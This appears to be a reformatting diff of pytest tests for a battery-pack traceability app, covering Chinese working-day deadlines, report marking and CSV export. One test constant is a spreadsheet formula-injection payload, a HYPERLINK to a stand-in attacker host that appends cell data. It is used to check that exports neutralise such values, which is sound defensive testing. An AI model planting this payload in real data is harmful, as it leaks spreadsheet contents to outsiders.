@@ -19,15 +19,18 @@ from tests.pack_builders import event, make_pack, utc
 NOW = utc(2026, 3, 10, 2)  # Tuesday 10 March 2026, 10:00 in Beijing
 
 
-@pytest.mark.parametrize("at, due", [
-    # Thu 12 Feb 2026, 23:30 Beijing: Sat 14 Feb is a working day (调休), 15-23 Feb are the
-    # Spring Festival, Sat 28 Feb works too. Mon-Fri counting alone would give 5 March.
-    (utc(2026, 2, 12, 15, 30), date(2026, 3, 11)),
-    # 00:30 on Fri 13 Feb in Beijing (still the 12th in UTC): one working day later.
-    (utc(2026, 2, 12, 16, 30), date(2026, 3, 12)),
-    # Fri 26 Sep 2025: Sun 28 Sep works, 1-8 Oct National Day, Sat 11 Oct works.
-    (utc(2025, 9, 26, 4), date(2025, 10, 23)),
-])
+@pytest.mark.parametrize(
+    "at, due",
+    [
+        # Thu 12 Feb 2026, 23:30 Beijing: Sat 14 Feb is a working day (调休), 15-23 Feb are the
+        # Spring Festival, Sat 28 Feb works too. Mon-Fri counting alone would give 5 March.
+        (utc(2026, 2, 12, 15, 30), date(2026, 3, 11)),
+        # 00:30 on Fri 13 Feb in Beijing (still the 12th in UTC): one working day later.
+        (utc(2026, 2, 12, 16, 30), date(2026, 3, 12)),
+        # Fri 26 Sep 2025: Sun 28 Sep works, 1-8 Oct National Day, Sat 11 Oct works.
+        (utc(2025, 9, 26, 4), date(2025, 10, 23)),
+    ],
+)
 def test_handover_deadline_counts_chinese_working_days(app, at, due):
     park = make_park()
     plant = make_user(park, role=Role.PLANT_OPERATOR)
@@ -46,18 +49,31 @@ def world(app, monkeypatch):
     owner = make_org(OrgKind.DEALER_BRANCH, name="穆棱经销商")
     overdue = make_pack(plant, owner=owner, received_at=utc(2026, 2, 5, 2))  # due 4 Mar
     soon = make_pack(plant, owner=owner, received_at=utc(2026, 2, 12, 15, 30))  # due 11 Mar
-    soon2 = make_pack(plant, owner=owner, received_at=utc(2026, 2, 12, 16, 30),
-                      chemistry="NCM622", original_code=None)  # due 12 Mar
+    soon2 = make_pack(
+        plant,
+        owner=owner,
+        received_at=utc(2026, 2, 12, 16, 30),
+        chemistry="NCM622",
+        original_code=None,
+    )  # due 12 Mar
     later = make_pack(plant, owner=owner, received_at=utc(2026, 3, 9, 2))
     done = make_pack(plant, received_at=utc(2026, 2, 2, 2))
     first = done.events[0]
     first.reported_at, first.reported_by_id = utc(2026, 2, 3), admin.id
     event(later, "graded", plant, at=utc(2026, 3, 9, 3))  # not a handover
     db.session.commit()
-    ids = {name: p.events[0].id for name, p in
-           dict(overdue=overdue, soon=soon, soon2=soon2, later=later, done=done).items()}
-    return {"park": park, "plant": plant, "admin": admin, "owner": owner, "ids": ids,
-            "packs": {"overdue": overdue, "soon": soon, "soon2": soon2}}
+    ids = {
+        name: p.events[0].id
+        for name, p in dict(overdue=overdue, soon=soon, soon2=soon2, later=later, done=done).items()
+    }
+    return {
+        "park": park,
+        "plant": plant,
+        "admin": admin,
+        "owner": owner,
+        "ids": ids,
+        "packs": {"overdue": overdue, "soon": soon, "soon2": soon2},
+    }
 
 
 def test_due_groups_split_by_deadline(world):
@@ -77,14 +93,16 @@ def test_trace_page_marks_reported_once(client, auth, world):
     page = client.get("/trace/").get_data(as_text=True)
     assert page.count('type="checkbox" name="event"') == 4
     assert f'value="{ids["done"]}"' not in page and "Overdue (1)" in page
-    response = submit(client, "/trace/reported", {"event": [ids["overdue"], ids["soon"]]},
-                      page="/trace/")
+    response = submit(
+        client, "/trace/reported", {"event": [ids["overdue"], ids["soon"]]}, page="/trace/"
+    )
     assert response.status_code == 302
     db.session.expire_all()
     marked = db.session.get(PackEvent, ids["overdue"])
     assert marked.reported_at == NOW and marked.reported_by_id == world["admin"].id
-    again = submit(client, "/trace/reported", {"event": [ids["soon2"], ids["overdue"]]},
-                   page="/trace/")
+    again = submit(
+        client, "/trace/reported", {"event": [ids["soon2"], ids["overdue"]]}, page="/trace/"
+    )
     assert again.status_code == 409 and "already marked" in again.get_data(as_text=True)
     db.session.expire_all()
     assert db.session.get(PackEvent, ids["soon2"]).reported_at is None  # all or none
@@ -107,13 +125,21 @@ def test_csv_has_the_platform_columns(client, auth, world):
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
     assert tuple(rows[0]) == traceability.CSV_COLUMNS
     assert [r["pack_code"] for r in rows] == [
-        world["packs"][k].code for k in ("overdue", "soon", "soon2")] + [rows[3]["pack_code"]]
+        world["packs"][k].code for k in ("overdue", "soon", "soon2")
+    ] + [rows[3]["pack_code"]]
     soon2 = rows[2]
     assert soon2 == {
-        "pack_code": world["packs"]["soon2"].code, "original_code": "", "chemistry": "NCM622",
-        "event_kind": "received", "event_time_local": "2026-02-13 00:30:00",
-        "organisation": world["park"].name, "counterparty": "穆棱经销商", "mass_kg": "300.00",
-        "report_due": "2026-03-12", "report_due_status": ""}  # 2026 is covered: not provisional
+        "pack_code": world["packs"]["soon2"].code,
+        "original_code": "",
+        "chemistry": "NCM622",
+        "event_kind": "received",
+        "event_time_local": "2026-02-13 00:30:00",
+        "organisation": world["park"].name,
+        "counterparty": "穆棱经销商",
+        "mass_kg": "300.00",
+        "report_due": "2026-03-12",
+        "report_due_status": "",
+    }  # 2026 is covered: not provisional
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
@@ -127,8 +153,11 @@ def test_csv_writes_formula_like_names_as_text(client, auth, world):
     world["park"].name = "+86 牡丹江园区"
     db.session.commit()
     auth.login(world["admin"].email)
-    rows = list(csv.DictReader(io.StringIO(
-        client.get("/trace/handovers.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    rows = list(
+        csv.DictReader(
+            io.StringIO(client.get("/trace/handovers.csv").get_data(as_text=True).lstrip("\ufeff"))
+        )
+    )
     assert {r["counterparty"] for r in rows[:3]} == {"'" + FORMULA_NAME}
     assert {r["organisation"] for r in rows} == {"'+86 牡丹江园区"}
     assert rows[0]["mass_kg"] == "300.00"
